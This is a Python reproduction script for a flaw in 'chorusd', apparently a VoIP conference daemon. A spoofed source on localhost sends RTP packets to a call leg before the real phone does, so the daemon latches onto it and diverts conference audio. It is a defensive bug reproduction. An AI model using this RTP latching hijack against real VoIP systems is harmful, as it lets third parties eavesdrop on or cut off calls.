"""Reproduction (not a ctest test): symmetric-RTP latching on the first
packet lets a third party that sends first take over a new leg's media.

A leg is set up with SDP c=127.0.0.1 port P. Before the phone's first RTP
packet, a foreign source (127.0.0.3) sends three RTP packets to the leg's
port. chorusd latches to it: the conference audio goes to the foreign
source and the real phone (which then streams from its SDP address) gets
nothing for the rest of the call (its packets are 'wrong_source').

Exit 1 when the hijack works, 0 when chorusd keeps the phone.
Run: CHORUSD=build/src/chorusd CHORUS_SRC=$PWD python3 tests/integration/repro_latch_hijack.py
"""
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import chorustest as ct  # noqa: E402


def main():
    r = ct.Runner("latch_hijack")
    d = ct.Daemon(r.tmp.path)
    d.start()
    ua, ua2 = ct.SipUA(d.addr, "udp", "victim"), ct.SipUA(d.addr, "udp", "other")
    v, o = ct.RtpPeer(), ct.RtpPeer()
    evil = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    evil.bind(("127.0.0.3", 0))
    evil.settimeout(0.01)
    try:
        c2 = ua2.invite("1000", ct.make_sdp(o.port, [0]))
        a2 = ct.Sdp(c2.final.body)
        o.start_stream((a2.conn, a2.port), 0, "PCMU", 800.0)
        c = ua.invite("1000", ct.make_sdp(v.port, [0]))
        a = ct.Sdp(c.final.body)
        for k in range(3):
            evil.sendto(ct.rtp_packet(0, k, 160 * k, 0xBAD, b"\xff" * 160), (a.conn, a.port))
            time.sleep(0.02)
        v.start_stream((a.conn, a.port), 0, "PCMU", 500.0)
        time.sleep(2.0)
        n = 0
        t0 = time.monotonic()
        while time.monotonic() - t0 < 1.0:
            try:
                evil.recvfrom(4096)
                n += 1
            except socket.timeout:
                pass
        print("foreign source got %d packets of conference audio in 1 s; the phone got %d "
              "in 3 s" % (n, len(v.received)))
        v.stop_stream()
        o.stop_stream()
        c.bye()
        c2.bye()
    finally:
        for x in (ua, ua2, v, o):
            x.close()
        evil.close()
        d.stop()
        r.tmp.cleanup()
    return 1 if n > 0 and not v.received else 0


if __name__ == "__main__":
    sys.exit(main())
